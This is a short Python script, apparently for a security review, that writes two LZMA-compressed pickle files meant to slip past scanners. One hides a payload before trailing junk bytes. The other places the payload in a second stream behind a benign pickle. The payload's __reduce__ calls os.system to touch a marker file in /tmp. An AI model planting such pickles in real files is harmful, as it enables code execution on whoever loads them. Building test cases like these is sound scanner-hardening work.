"""LZMA files that Python's lzma.LZMAFile (joblib.load, pandas.read_pickle) reads past the
first stream: junk after an "alone" stream with its end marker, and a payload in a second stream
(of either kind) that a loader calling pickle.load twice on the same file object runs."""
import lzma, os, pickle, sys

out = sys.argv[1] if len(sys.argv) > 1 else "."
class P:
    def __init__(self, tag): self.tag = tag
    def __reduce__(self): return (os.system, (f"touch /tmp/r37-pwned-{self.tag}",))
alone = lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)
benign = pickle.dumps({"a": 1}, protocol=2)
files = {
    # the whole payload, then bytes that open no stream: lzma_rs refused the end marker
    "review37-lzma_alone_junk.pkl.lzma": alone(pickle.dumps(P("junk"), protocol=2)) + b"JUNKJUNK",
    # a benign pickle, then the payload's pickle in a second "alone" stream
    "review37-lzma_second_stream.pkl.lzma": alone(benign) + alone(pickle.dumps(P("second"), protocol=2)),
}
for name, data in files.items():
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
